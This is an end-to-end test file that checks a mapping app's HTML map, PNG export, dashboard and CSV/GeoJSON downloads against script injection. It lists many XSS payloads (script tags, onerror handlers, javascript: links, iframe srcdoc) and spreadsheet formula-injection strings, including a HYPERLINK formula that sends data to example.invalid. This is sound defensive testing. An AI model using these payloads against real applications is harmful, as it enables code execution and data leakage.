"""No script injection, proven in headless Chromium (issue 5, item 2).

The articles in ``tests/data/hostile/`` carry ``<script>``, ``onerror=``, ``onload=``, ``onmouseover=``,
``javascript:``, ``srcdoc``, ``<style>``, template and markdown-link payloads in their titles, sources,
quotes, speaker names, roles and surrounding words; an analyst correction adds a place named by a payload.
They go through the real pipeline into the standalone HTML map, the PNG export, the running dashboard and the
GeoJSON/CSV downloads. In the browser, every tooltip and popup is opened and every element in them hovered;
then no dialog may have opened, ``window.__pwned`` (which every payload would set) must be undefined in every
frame, no element may have been built from the payloads (no ``<img src=x>``, ``<svg>``, ``<iframe srcdoc>``,
``on*=`` attribute, ``javascript:`` link), and the payloads must still read as text where they are shown.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from geo.corrections import Correction, apply_corrections, mention_key, user_place_id
from geo.extract.pipeline import Extraction, Resources, extract_paths

pytestmark = pytest.mark.e2e
sync_api = pytest.importorskip("playwright.sync_api")

HOSTILE_DIR = Path(__file__).parent / "data" / "hostile"
TIMEOUT_MS = 90_000

# Every payload in the hostile articles (and the analyst inputs below), as it must read when shown.
PAYLOADS: tuple[str, ...] = (
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=2">',
    '<svg onload="window.__pwned=3">',
    '<a href="javascript:window.__pwned=4">click</a>',
    '"><script>window.__pwned=5</script>',
    "</textarea><script>window.__pwned=6</script>",
    "{{7*7}}",
    "${alert(1)}",
    "</script><script>window.__pwned=7</script>",
    '<iframe srcdoc="<script>parent.__pwned=8</script>"></iframe>',
    "<style>body{display:none}</style>",
    "[click here](javascript:window.__pwned=9)",
    "Gen<b onmouseover=window['__pwned']=10>X",
    "<script>window.__pwned=11</script>",
    '<img src=x onerror="window.__pwned=12">',
    '"><svg onload="window.__pwned=13">',
    "</textarea><script>window.__pwned=14</script>",
    "javascript:window.__pwned=15",
    "Gen<img src=x onerror=window['__pwned']=16>X",
    '<b onmouseover="window.__pwned=17">Gen. X</b>',
    "<b onmouseover=\"window['__pwned']=18\">Gen X</b>",
    "Izium <img src=x onerror=window['__pwned']=20><script>window.__pwned=20</script>",  # analyst place
    "<svg/onload=window['__pwned']=21>note</svg>",  # analyst claim note
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Izium is free")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)
HOSTILE_PLACE_NAME = PAYLOADS[21]
HOSTILE_NOTE = PAYLOADS[22]

# Elements and attributes only a payload could have made (the map and Streamlit create none of them).
INJECTED_JS = """(root) => {
  const scope = root || document;
  const found = [];
  const all = scope.querySelectorAll('*');
  for (const el of all) {
    const tag = el.tagName.toLowerCase();
    for (const a of el.getAttributeNames()) {
      if (a.startsWith('on')) found.push(tag + '[' + a + ']');
      if (/^(href|src|action|formaction|xlink:href)$/.test(a)
          && /^\\s*javascript:/i.test(el.getAttribute(a))) found.push(tag + '[' + a + '=javascript:]');
    }
    if (tag === 'iframe' && el.hasAttribute('srcdoc')) found.push('iframe[srcdoc]');
    if (tag === 'img' && el.getAttribute('src') === 'x') found.push('img[src=x]');
  }
  return found;
}"""

# Inside a tooltip/popup/label nothing but text formatting may exist (the map's own <b>, <i>, <br>, …).
FOREIGN_IN_CONTENT = "script, style, img, svg, iframe, a[href^='javascript'], textarea, object, embed"


def squash(text: str) -> str:
    """Whitespace-insensitive comparison form (innerText turns <br> into newlines)."""
    return " ".join(text.split())


# ------------------------------------------------------------------------------------------ fixtures


@pytest.fixture(scope="module")
def resources() -> Resources:
    return Resources()


@pytest.fixture(scope="module")
def extraction(resources: Resources) -> Extraction:
    result = extract_paths([HOSTILE_DIR], resources=resources)
    assert not result.skipped, result.skipped
    assert len(result.articles) == 2
    return result


def hostile_place_correction(extraction: Extraction) -> Correction:
    """An analyst re-points the last "Izium" mention to a new place whose name is a payload."""
    mention = [m for m in extraction.mentions if m.surface == "Izium"][-1]
    return Correction(
        "add_place",
        mention_key(mention.article_id, mention.start, mention.end),
        {"name": HOSTILE_PLACE_NAME, "lat": 49.28, "lon": 37.05, "kind": "settlement", "country_code": "UA"},
    )


@pytest.fixture(scope="module")
def tables(extraction: Extraction) -> dict[str, pd.DataFrame]:
    fixed = apply_corrections(
        extraction.places,
        extraction.mentions,
        extraction.claims,
        [hostile_place_correction(extraction)],
        quotes=extraction.quotes,
    )
    assert not fixed.unapplied, fixed.unapplied
    corrected = replace(
        extraction,
        places=list(fixed.places),
        mentions=list(fixed.mentions),
        quotes=list(fixed.quotes),
        claims=list(fixed.claims),
    )
    return corrected.frames()


class Watch:
    """What a page did that only a payload would do: dialogs and requests for ``x`` (``<img src=x>``)."""

    def __init__(self) -> None:
        self.dialogs: list[str] = []
        self.requests: list[str] = []
        self.errors: list[str] = []

    def attach(self, page: Any) -> Any:
        def on_dialog(dialog: Any) -> None:
            self.dialogs.append(f"{dialog.type}: {dialog.message}")
            dialog.dismiss()

        page.on("dialog", on_dialog)
        page.on("request", lambda r: self.requests.append(r.url))
        page.on("pageerror", lambda e: self.errors.append(str(e)))
        return page

    def payload_requests(self) -> list[str]:
        return [u for u in self.requests if re.search(r"/x(?:[?#]|$)", u)]


def assert_clean(page: Any, watch: Watch) -> None:
    """No dialog, no ``__pwned`` in any frame, no payload-made element, no request for ``src=x``."""
    assert watch.dialogs == [], watch.dialogs
    for frame in page.frames:
        try:
            flag = frame.evaluate(
                "() => typeof window.__pwned === 'undefined' ? null : String(window.__pwned)"
            )
            injected = frame.evaluate(INJECTED_JS, None)
        except sync_api.Error as exc:  # a frame that went away while we looked
            if "detached" in str(exc).lower() or "destroyed" in str(exc).lower():
                continue
            raise
        assert flag is None, f"payload ran in frame {frame.url[:80]}: window.__pwned = {flag}"
        assert injected == [], f"elements built from payloads in {frame.url[:80]}: {injected}"
    assert watch.payload_requests() == [], watch.payload_requests()


# ------------------------------------------------------------------------------------------ the map


@pytest.fixture(scope="module")
def map_file(tables: dict[str, pd.DataFrame], resources: Resources, tmp_path_factory: Any) -> Path:
    from geo.exporting import standalone_html
    from geo.mapping import MapView, assets_installed, build_map

    if not assets_installed():
        pytest.skip("map assets not installed (scripts/install_assets.sh)")
    view = MapView(
        date="2022-09-11",
        layers=frozenset({"places", "claims", "control", "directions", "heat", "basemap"}),
        selected_place_id=user_place_id(HOSTILE_PLACE_NAME),
        assets="file",
    )
    out = tmp_path_factory.mktemp("xss-map") / "hostile map.html"
    out.write_text(standalone_html(build_map(tables, resources.record, view)), encoding="utf-8")
    return out


# Opens every tooltip and popup of the map in turn, hovers (mouseover/mouseenter) every element in it,
# and reports its text and any element that text formatting cannot explain.
OPEN_ALL_JS = """([name, foreign]) => {
  const m = window[name];
  const hover = (el) => el && el.querySelectorAll('*').forEach(e => {
    ['mouseover', 'mouseenter', 'focus'].forEach(t => e.dispatchEvent(new MouseEvent(t, {bubbles: true})));
  });
  const read = (el) => el
    ? {text: el.innerText, foreign: [...el.querySelectorAll(foreign)].map(e => e.tagName)}
    : null;
  const out = [];
  const layers = [];
  m.eachLayer(l => layers.push(l));
  for (const l of layers) {
    const rec = {tip: null, popup: null};
    const tip = l.getTooltip && l.getTooltip();
    if (tip) {
      l.openTooltip();
      hover(tip.getElement());
      rec.tip = read(tip.getElement());
      l.closeTooltip();
    }
    const popup = l.getPopup && l.getPopup();
    if (popup) {
      l.openPopup();
      hover(popup.getElement());
      rec.popup = read(popup.getElement());
      l.closePopup();
    }
    if (tip || popup) out.push(rec);
  }
  return out;
}"""

PLACE_POINTS_JS = """(name) => {
  const m = window[name];
  const out = [];
  m.eachLayer(l => {
    const tip = l.getTooltip && l.getTooltip();
    if (!tip || !l.getLatLng || !l.getPopup || !l.getPopup()) return;
    const id = String(tip.getContent()).match(/\\[([^\\[\\]\\s]+:[^\\[\\]\\s]+)\\]/);
    const p = m.latLngToContainerPoint(l.getLatLng());
    out.push({id: id ? id[1] : null, x: p.x, y: p.y});
  });
  return out;
}"""


def open_map(browser: Any, path: Path) -> tuple[Any, Any, Watch, str]:
    context = browser.new_context(viewport={"width": 1400, "height": 900})
    page = context.new_page()
    watch = Watch()
    watch.attach(page)
    page.goto(path.as_uri(), wait_until="load")
    page.wait_for_function("() => Object.keys(window).some(k => /^map_[0-9a-f]+$/.test(k))")
    name = page.evaluate("() => Object.keys(window).find(k => /^map_[0-9a-f]+$/.test(k))")
    page.wait_for_function("(n) => window[n]._loaded", arg=name)
    return context, page, watch, name


def expected_popup_quotes(tables: dict[str, pd.DataFrame], place_id: str, limit: int = 3) -> list[dict]:
    """The quotes a place's popup lists (its first ``limit`` quote ids that exist)."""
    summary = tables["place_summary"].set_index("place_id")
    quotes = tables["quotes"].set_index("quote_id")
    ids = [q for q in list(summary.loc[place_id, "quote_ids"]) if q in quotes.index][:limit]
    return [quotes.loc[q].to_dict() for q in ids]


def test_standalone_map_shows_payloads_as_text_and_runs_none(browser: Any, map_file: Path, tables) -> None:
    context, page, watch, name = open_map(browser, map_file)
    try:
        # Real pointer events first: hover and click every place marker.
        for point in page.evaluate(PLACE_POINTS_JS, name):
            if 5 < point["x"] < 1395 and 5 < point["y"] < 895:
                page.mouse.move(point["x"], point["y"])
                page.mouse.click(point["x"], point["y"])
                page.wait_for_timeout(50)
        opened = page.evaluate(OPEN_ALL_JS, [name, FOREIGN_IN_CONTENT])
        # The place-search list renders names with innerHTML: search for the hostile place.
        page.locator(".leaflet-control-search .search-button").click()
        page.locator(".leaflet-control-search input").type("Izium")
        page.locator(".search-tooltip .search-tip").first.wait_for(timeout=10_000)
        search_tips = page.locator(".search-tooltip .search-tip").all_inner_texts()
        labels = page.locator(".frontline-label").all_inner_texts()
        page.mouse.move(10, 10)
        page.wait_for_timeout(200)
        assert_clean(page, watch)
        assert page.locator(
            ".leaflet-container"
        ).first.is_visible()  # <style>body{display:none}</style> inert
        assert page.evaluate("() => getComputedStyle(document.body).display") != "none"
    finally:
        context.close()

    texts = [r[k]["text"] for r in opened for k in ("tip", "popup") if r[k]]
    foreign = [
        (r[k]["text"][:60], r[k]["foreign"])
        for r in opened
        for k in ("tip", "popup")
        if r[k] and r[k]["foreign"]
    ]
    assert foreign == [], f"markup from article text inside map content: {foreign}"
    shown = squash("\n".join(texts + labels + search_tips))

    # Every drawn place shows its name (the hostile one literally) in a tooltip, popup and label.
    summary = tables["place_summary"]
    drawn = summary[summary["kind"].isin(["settlement", "region"])]
    for place_name in drawn["name"]:
        assert squash(place_name) in shown, place_name
    for real in ("Izyum", "Kupyansk", "Balakliya", "Kharkiv"):
        assert real in shown
    assert HOSTILE_PLACE_NAME in labels
    assert any(squash(HOSTILE_PLACE_NAME) in squash(t) for t in search_tips), search_tips

    # Each place's popup lists its first quotes, text and speaker verbatim.
    popups = [squash(r["popup"]["text"]) for r in opened if r["popup"]]
    checked_quotes = 0
    for place_id, place_name in zip(drawn["place_id"], drawn["name"], strict=True):
        popup = next((p for p in popups if p.startswith(squash(f"{place_name} [{place_id}]"))), None)
        assert popup is not None, f"no popup for {place_id}"
        for quote in expected_popup_quotes(tables, place_id):
            assert squash(quote["text"]) in popup, (place_id, quote["text"])
            assert squash(quote["speaker"]) in popup, (place_id, quote["speaker"])
            checked_quotes += 1
    assert checked_quotes >= 8

    # Claims popups quote their evidence verbatim, hostile claimants included.
    for claim in tables["claims"].to_dict("records"):
        if claim["kind"] == "settlement_control":
            assert squash(claim["evidence"]) in shown, claim["evidence"]
            assert squash(claim["claimant"]) in shown, claim["claimant"]

    # The payloads themselves are readable, literally.
    visible = [p for p in PAYLOADS if squash(p) in shown]
    for payload in (
        "<script>window.__pwned=1</script>",
        '<img src=x onerror="window.__pwned=2">',
        '<a href="javascript:window.__pwned=4">click</a>',
        "</script><script>window.__pwned=7</script>",
        '<iframe srcdoc="<script>parent.__pwned=8</script>"></iframe>',
        "<style>body{display:none}</style>",
        "[click here](javascript:window.__pwned=9)",
        "Gen<b onmouseover=window['__pwned']=10>X",
        "Gen<img src=x onerror=window['__pwned']=16>X",
        HOSTILE_PLACE_NAME,
    ):
        assert payload in visible, payload


def test_the_probe_catches_a_payload_that_runs(browser: Any, map_file: Path) -> None:
    """The checks above can fail: the same map with one unescaped popup is caught."""
    context, page, watch, name = open_map(browser, map_file)
    try:
        page.evaluate(
            """(n) => { const m = window[n]; let done = false;
                 m.eachLayer(l => { if (!done && l.getPopup && l.getPopup() && l.getLatLng) {
                   l.bindPopup('<img src=x onerror="window.__pwned=99; alert(99)">'); done = true; } }); }""",
            name,
        )
        opened = page.evaluate(OPEN_ALL_JS, [name, FOREIGN_IN_CONTENT])
        page.wait_for_function("() => window.__pwned === 99", timeout=10_000)
        with pytest.raises(AssertionError):
            assert_clean(page, watch)
        assert watch.dialogs, "the dialog handler saw no alert"
        assert any(r["popup"] and "IMG" in r["popup"]["foreign"] for r in opened)
    finally:
        context.close()


# ------------------------------------------------------------------------------------------ PNG export


def test_png_export_with_a_hostile_title_runs_nothing(tables, resources: Resources, tmp_path, monkeypatch):
    """The real export_png, observed: its page is checked (dialogs, flag, overlay text) before it closes."""
    import geo.exporting.png as png
    from geo.exporting import close_browser, export_png, map_attributions
    from geo.mapping import MapView, assets_installed, build_map

    if not assets_installed():
        pytest.skip("map assets not installed (scripts/install_assets.sh)")
    if not Path(png.chromium_path()).is_file():
        pytest.skip("no Chromium")
    seen: list[dict[str, Any]] = []
    watch = Watch()
    real_context = png._context

    class ObservedContext:
        def __init__(self, context: Any) -> None:
            self._context = context

        def new_page(self) -> Any:
            page = watch.attach(self._context.new_page())
            real_close = page.close

            def close(*args: Any, **kwargs: Any) -> Any:
                seen.append(
                    {
                        "flag": page.evaluate("() => typeof window.__pwned === 'undefined' ? null : 1"),
                        "injected": page.evaluate(INJECTED_JS, None),
                        "text": page.evaluate("() => document.body.innerText"),
                        "foreign": page.evaluate(
                            "(sel) => [...document.querySelectorAll('.leaflet-container > div:last-child')]"
                            ".flatMap(d => [...d.querySelectorAll(sel)].map(e => e.tagName))",
                            FOREIGN_IN_CONTENT,
                        ),
                    }
                )
                return real_close(*args, **kwargs)

            page.close = close
            return page

    monkeypatch.setattr(png, "_context", lambda scale, offline: ObservedContext(real_context(scale, offline)))
    article = next(a for a in tables["articles"].to_dict("records") if "<script>" in a["title"])
    view = MapView(date="2022-09-11", controls=False, assets="file")
    title = article["title"] + " " + PAYLOADS[1]
    hostile_map = build_map(tables, resources.record, view)

    def export() -> (
        Path
    ):  # own thread: this one already runs the test's Playwright (sync API, one per thread)
        try:
            return export_png(
                hostile_map,
                tmp_path / "hostile.png",
                width=800,
                height=500,
                title=title,
                date="2022-09-11 <svg onload=alert(5)>",
                attributions=[*map_attributions(view, resources.record), article["source"]],
            )
        finally:
            close_browser()

    with ThreadPoolExecutor(max_workers=1) as pool:
        out = pool.submit(export).result()
    data = out.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n" and len(data) > 10_000
    assert len(seen) == 1
    assert watch.dialogs == [] and watch.payload_requests() == []
    assert seen[0]["flag"] is None and seen[0]["injected"] == [] and seen[0]["foreign"] == []
    text = squash(seen[0]["text"])
    assert squash(title) in text
    assert "2022-09-11 <svg onload=alert(5)>" in text
    assert squash(article["source"]) in text


# ------------------------------------------------------------------------------------------ downloads


def test_geojson_and_csv_keep_payloads_as_data_and_defuse_formulas(tables) -> None:
    from geo.exporting import to_csv, to_geojson
    from geo.exporting.tables import claim_rows

    places = json.loads(json.dumps(to_geojson(tables, "places"), ensure_ascii=False))
    names = {f["properties"]["name"] for f in places["features"]}
    assert HOSTILE_PLACE_NAME in names  # verbatim: no &lt; in data
    claims = json.loads(json.dumps(to_geojson(tables, "claims"), ensure_ascii=False))
    by_id = {f["properties"]["claim_id"]: f["properties"] for f in claims["features"]}
    for claim in tables["claims"].to_dict("records"):
        if claim["claim_id"] in by_id:
            assert by_id[claim["claim_id"]]["evidence"] == claim["evidence"]
    rows = list(csv.DictReader(io.StringIO(to_csv(claim_rows(tables)).decode("utf-8-sig"))))
    assert len(rows) == len(tables["claims"])

    for table, column in (
        ("quotes", "text"),
        ("quotes", "speaker"),
        ("articles", "title"),
        ("articles", "source"),
    ):
        frame = tables[table]
        rows = list(csv.DictReader(io.StringIO(to_csv(frame).decode("utf-8-sig"))))
        assert len(rows) == len(frame)
        for original, cell in zip(frame[column], (r[column] for r in rows), strict=True):
            if original.startswith(("=", "+", "-", "@", "\t", "\r")):
                assert cell == "'" + original, cell  # shown as text by spreadsheets, never evaluated
            else:
                assert cell == original
    cells = [
        c
        for t in ("quotes", "articles")
        for r in csv.reader(io.StringIO(to_csv(tables[t]).decode("utf-8-sig")))
        for c in r
    ]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], "a cell would start a formula"
    defused = {c[1:] for c in cells if c.startswith("'")}
    for payload in PAYLOADS[23:]:
        assert any(c.startswith(payload) for c in defused), payload


# ------------------------------------------------------------------------------------------ the dashboard


@pytest.fixture(scope="module")
def app_url(extraction: Extraction, tmp_path_factory: Any) -> Iterator[str]:
    """The dashboard on a fresh store holding the hostile articles, a hostile place and a hostile note."""
    from geo.app.serve import running_app
    from geo.store import DB_NAME, Store

    folder = tmp_path_factory.mktemp("xss-app")
    with Store.open(folder / DB_NAME) as store:
        for article in extraction.articles:
            assert store.add_article(article) == "added"
        store.add_correction(hostile_place_correction(extraction))
        claim = next(c for c in extraction.claims if "<img" in c.claimant)
        store.add_correction(Correction("claim_note", claim.claim_id, {"note": HOSTILE_NOTE}))
    with running_app(folder) as url:
        yield url


MAP_FRAME = "iframe[title='streamlit_folium.st_folium']"


def map_iframe(page: Any) -> tuple[Any, dict[str, float]]:
    """The map's iframe element as laid out now, and its box (while Streamlit re-mounts the component, a
    hidden second copy may exist for a moment)."""
    for _ in range(TIMEOUT_MS // 250):
        for loc in page.locator(MAP_FRAME).all():
            box = loc.bounding_box()
            if box and box["height"] > 100 and box["width"] > 100:
                return loc, box
        page.wait_for_timeout(250)
    raise AssertionError("no visible map iframe")


def map_frame(page: Any) -> Any:
    """The Frame inside the visible map iframe (waits while the component is being mounted)."""
    for _ in range(TIMEOUT_MS // 250):
        try:
            frame = map_iframe(page)[0].element_handle().content_frame()
        except sync_api.Error:  # the element was replaced by a rerun meanwhile
            frame = None
        if frame is not None:
            return frame
        page.wait_for_timeout(250)
    raise AssertionError("the map iframe has no document")


def wait_map_drawn(page: Any) -> Any:
    """Wait until the map shows its place labels; returns the map's frame."""
    for _ in range(TIMEOUT_MS // 250):
        frame = map_frame(page)
        try:
            if frame.locator("#map_div .frontline-label").count():
                return frame
        except sync_api.Error:
            pass
        page.wait_for_timeout(250)
    raise AssertionError("the map never drew its place labels")


def wait_text(page: Any, needle: str, what: str) -> str:
    """Poll the page's text until ``needle`` shows (reruns take a moment); returns the text."""
    text = ""
    for _ in range(TIMEOUT_MS // 250):
        text = page.evaluate("() => document.body.innerText")
        if needle in text:
            return text
        page.wait_for_timeout(250)
    raise AssertionError(f"timed out waiting for {what}; page text ends: {text[-400:]}")


APP_PLACES_JS = """() => {
  const out = [];
  (window.feature_group || []).forEach(g => g.eachLayer(function walk(l) {
    if (l.eachLayer) { l.eachLayer(walk); return; }
    const tip = l.getTooltip && l.getTooltip() ? String(l.getTooltip().getContent() || '') : '';
    const id = tip.match(/\\[([^\\[\\]\\s]+:[^\\[\\]\\s]+)\\]/);
    if (id && l.getLatLng && l.getPopup && l.getPopup()) {
      const p = map_div.latLngToContainerPoint(l.getLatLng());
      out.push({id: id[1], x: p.x, y: p.y});
    }
  }));
  return out;
}"""


CENTER_ON_JS = """(placeId) => {
  let found = null;
  (window.feature_group || []).forEach(g => g.eachLayer(function walk(l) {
    if (l.eachLayer) { l.eachLayer(walk); return; }
    const tip = l.getTooltip && l.getTooltip() ? String(l.getTooltip().getContent() || '') : '';
    if (!found && l.getLatLng && l.getPopup && l.getPopup() && tip.includes('[' + placeId + ']')) found = l;
  }));
  if (found) map_div.setView(found.getLatLng(), map_div.getZoom(), {animate: false});
  return !!found;
}"""


def st_key_class(key: str) -> str:
    """The CSS class Streamlit gives an element with ``key`` (st-key- plus the key, odd characters → -)."""
    return "st-key-" + re.sub(r"[^a-zA-Z0-9_-]", "-", key.strip())


def wait_locator_text(page: Any, locator: Any, needle: str, what: str) -> str:
    text = ""
    for _ in range(TIMEOUT_MS // 250):
        text = locator.inner_text() if locator.count() else ""
        if needle in text:
            return text
        page.wait_for_timeout(250)
    raise AssertionError(f"timed out waiting for {what}; text: {text[-400:]}")


def click_place(page: Any, place_id: str) -> None:
    """Centre the map on a place's marker (the app may move the view back while it reruns, so retry until
    the marker is inside the map), then hover and click it."""
    for _ in range(40):
        box = map_iframe(page)[1]
        frame = map_frame(page)
        points = []
        if frame is not None and frame.evaluate(CENTER_ON_JS, place_id):  # else: layers still loading
            page.wait_for_timeout(250)
            points = [p for p in frame.evaluate(APP_PLACES_JS) if p["id"] == place_id]
        inside = [p for p in points if 20 < p["x"] < box["width"] - 20 and 20 < p["y"] < box["height"] - 20]
        if inside:
            x, y = box["x"] + inside[0]["x"], box["y"] + inside[0]["y"]
            page.mouse.move(x, y)
            page.mouse.click(x, y)
            return
        page.wait_for_timeout(250)
    raise AssertionError(f"{place_id} is not drawn or never came into view: {points}")


def test_dashboard_shows_payloads_as_text_and_runs_none(browser: Any, app_url: str, tables) -> None:
    context = browser.new_context(viewport={"width": 1600, "height": 1100})
    page = context.new_page()
    watch = Watch()
    watch.attach(page)
    try:
        page.goto(app_url, wait_until="domcontentloaded")
        wait_text(page, "window.__pwned=1", "the hostile quotes in the panel")
        frame = wait_map_drawn(page)
        opened = frame.evaluate(
            OPEN_ALL_JS.replace("window[name]", "map_div"), ["map_div", FOREIGN_IN_CONTENT]
        )
        map_text = squash("\n".join(r[k]["text"] for r in opened for k in ("tip", "popup") if r[k]))
        assert [r for r in opened for k in ("tip", "popup") if r[k] and r[k]["foreign"]] == []
        assert HOSTILE_PLACE_NAME in map_text and "<script>window.__pwned=1</script>" in map_text

        # Click markers: the place with the hostile claimant and note, then the hostile place itself.
        claim = next(c for c in tables["claims"].to_dict("records") if "<img" in c["claimant"])
        claim_place = claim["place_ids"][0]
        card = page.locator(".st-key-place-card")
        cards = {}
        names = dict(zip(tables["places"]["place_id"], tables["places"]["name"], strict=True))
        for place_id, needle in (
            (claim_place, HOSTILE_NOTE),
            (user_place_id(HOSTILE_PLACE_NAME), HOSTILE_PLACE_NAME),
        ):
            click_place(page, place_id)
            card.wait_for(timeout=TIMEOUT_MS)
            wait_locator_text(page, card, names[place_id], f"the place card of {place_id}")
            for folded in card.locator("details:not([open]) > summary").all():  # e.g. the claims list
                folded.click()
            cards[place_id] = wait_locator_text(page, card, needle, f"{needle!r} in the card of {place_id}")
        assert squash(claim["claimant"]) in squash(cards[claim_place])

        # Back to every place, then "Show on map" on the quote with the hostile speaker.
        page.locator(".st-key-clear-place button").first.click()
        page.locator(".st-key-place-card").wait_for(state="detached", timeout=TIMEOUT_MS)
        quote = next(q for q in tables["quotes"].to_dict("records") if "<b onmouseover" in q["speaker"])
        quote_card = page.locator("." + st_key_class(f"quote-card-{quote['quote_id']}"))
        quote_card.wait_for(timeout=TIMEOUT_MS)
        quote_card.get_by_role("button", name=re.compile("Show on map")).click()
        wait_locator_text(page, quote_card, "on map", "the quote marked as shown on the map")

        # Hover everything in the quotes panel and the place card, page after page, as a reader would.
        pages: list[str] = []
        side = page.locator(".st-key-side-panel")
        while True:
            side.evaluate(
                """(el) => el.querySelectorAll('*').forEach(e => ['mouseover', 'mouseenter'].forEach(
                     t => e.dispatchEvent(new MouseEvent(t, {bubbles: true}))))"""
            )
            page.wait_for_timeout(500)
            pages.append(squash(side.inner_text()))
            older = page.locator(".st-key-quotes-older button")
            if older.count() == 0 or older.is_disabled():
                break
            older.click()
            for _ in range(TIMEOUT_MS // 250):  # the next page has replaced this one
                if squash(side.inner_text()) != pages[-1]:
                    break
                page.wait_for_timeout(250)
        panel = " ".join(pages)
        assert_clean(page, watch)

        # The sidebar's speaker filter offers the hostile speakers as options, as text.
        speaker_filter = page.locator("[data-testid='stSidebar'] [data-testid='stMultiSelect']").filter(
            has_text="Speaker"
        )
        speaker_filter.locator("input").click()
        page.keyboard.type("Gen<")
        listbox = page.locator("[role='listbox']").first
        options = wait_locator_text(page, listbox, "onerror", "the speaker options")
        page.keyboard.press("Escape")
        page.locator("h1").first.click()  # outside the dropdown: closes it (role queries skip aria-hidden)
        listbox.wait_for(state="detached", timeout=TIMEOUT_MS)

        # The other tabs: claims and articles tables, and the corrections list with the analyst's inputs.
        for tab in ("Claims", "Articles", "Corrections"):
            page.get_by_role("tab", name=tab).click()
        corrections = wait_text(page, f"{claim['claim_id']}: {HOSTILE_NOTE}", "the hostile note in the list")
        page.wait_for_timeout(500)
        assert_clean(page, watch)
    finally:
        context.close()

    assert "Gen<b onmouseover=window['__pwned']=10>X" in options
    assert "Gen<img src=x onerror=window['__pwned']=16>X" in options
    assert f"→ {HOSTILE_PLACE_NAME}" in corrections

    shown_quotes = [q for q in tables["quotes"].to_dict("records")]
    for q in shown_quotes:
        assert squash(q["text"]) in panel, q["text"]
        assert squash(q["speaker"]) in panel, q["speaker"]
    for payload in PAYLOADS[:13] + PAYLOADS[18:19] + PAYLOADS[20:21]:
        if payload in {PAYLOADS[2], PAYLOADS[4]}:  # in the articles' narrative only, never in a quote
            continue
        assert squash(payload) in panel, payload
    titles = tables["articles"]["title"].tolist()
    assert any(squash(t) in panel for t in titles)


# A shared link is as hostile as an article: its parameters come back in "Shared link: ignored …" notes.
LINK_PAYLOADS: dict[str, str] = {
    "place": '<img src=x onerror="window.__pwned=30">',
    "quote": "[click here](javascript:window.__pwned=31)",
    "basemap": "**bold** :red[red] <script>window.__pwned=32</script>",
    "speaker": '<svg onload="window.__pwned=33">',
}


# Records every "Shared link" note the moment it is rendered (the app shows them once, on the first run).
NOTE_RECORDER_JS = """() => {
  window.__notes = [];
  const seen = new Set();
  new MutationObserver(() => {
    document.querySelectorAll('[data-testid="stAlert"]').forEach(el => {
      const text = el.innerText;
      if (!text.includes('Shared link') || seen.has(text)) return;
      seen.add(text);
      const markup = [...el.querySelectorAll('a, strong, b, img, svg, script, span[style]')]
        .map(x => x.tagName);
      window.__notes.push({text, markup});
    });
  }).observe(document, {childList: true, subtree: true, characterData: true});
}"""


@pytest.fixture(scope="module")
def shared_link(browser: Any, app_url: str) -> dict[str, Any]:
    """Open a link whose parameters are payloads; the notes as rendered, and what the page did."""
    from urllib.parse import urlencode

    context = browser.new_context(viewport={"width": 1600, "height": 1100})
    page = context.new_page()
    watch = Watch()
    watch.attach(page)
    page.add_init_script(f"({NOTE_RECORDER_JS})()")
    try:
        page.goto(f"{app_url}/?{urlencode(LINK_PAYLOADS)}", wait_until="domcontentloaded")
        page.wait_for_function(
            "(n) => window.__notes && window.__notes.length >= n", arg=len(LINK_PAYLOADS), timeout=TIMEOUT_MS
        )
        wait_map_drawn(page)
        try:
            assert_clean(page, watch)
            problem = ""
        except AssertionError as exc:
            problem = str(exc)
        return {"notes": page.evaluate("() => window.__notes"), "problem": problem}
    finally:
        context.close()


def test_dashboard_shared_link_payloads_run_nothing(shared_link: dict[str, Any]) -> None:
    assert shared_link["problem"] == ""
    built = [n for n in shared_link["notes"] if {"IMG", "SVG", "SCRIPT"} & set(n["markup"])]
    assert built == []
    shown = squash("\n".join(n["text"] for n in shared_link["notes"]))
    for payload in (LINK_PAYLOADS["place"], LINK_PAYLOADS["speaker"], "<script>window.__pwned=32</script>"):
        assert squash(payload) in shown, (payload, shown)




def known_markdown_gap(missing: list[str], markup: list[list[str]], where: str) -> None:
    """Fail when hostile text is rendered as markdown (formatting, a link) or HTML, or goes missing;
    ``where`` names the code that must escape it (``md_escape``)."""
    tags = {t for m in markup for t in m}
    assert not tags, f"rendered as markdown {sorted(tags)}, escape it in {where}; {missing[:3]}"
    assert missing == [], missing


def test_dashboard_shared_link_payloads_show_as_text(shared_link: dict[str, Any]) -> None:
    shown = squash("\n".join(n["text"] for n in shared_link["notes"]))
    missing = [p for p in LINK_PAYLOADS.values() if squash(p) not in shown]
    known_markdown_gap(
        missing,
        [n["markup"] for n in shared_link["notes"]],
        "the page's st.warning(f'Shared link: {note}') (dashboard.py, now geo/app/page.py): md_escape(note)",
    )


# Adding articles from the sidebar: the pasted title and the uploaded file's name come back in messages.
ADDED_TITLE = "XSSMARK **bold** [link](javascript:window.__pwned=40) <img src=x onerror=window.__pwned=41>"
UPLOAD_NAME = "XSSMARK [file](javascript:window.__pwned=42) __n__.md"

# Records every alert or progress text carrying XSSMARK when it is rendered (messages show once).
MESSAGE_RECORDER_JS = """() => {
  window.__messages = [];
  const seen = new Set();
  new MutationObserver(() => {
    document.querySelectorAll('[data-testid="stAlert"], [data-testid="stProgress"]').forEach(el => {
      const text = el.innerText;
      if (!text.includes('XSSMARK') || seen.has(text)) return;
      seen.add(text);
      const markup = [...el.querySelectorAll('a, strong, b, em, img, svg, script, span[style]')]
        .map(x => x.tagName);
      window.__messages.push({text, markup});
    });
  }).observe(document, {childList: true, subtree: true, characterData: true});
}"""


def open_expander(page: Any, scope: Any, label: str) -> None:
    """Open a Streamlit expander (it may have closed on a rerun) and wait until it is open."""
    details = scope.locator("details").filter(has_text=label).first
    details.wait_for(timeout=TIMEOUT_MS)
    if details.get_attribute("open") is None:
        details.locator("summary").first.click()
    page.wait_for_function("(el) => el.open", arg=details.element_handle(), timeout=TIMEOUT_MS)


@pytest.fixture(scope="module")
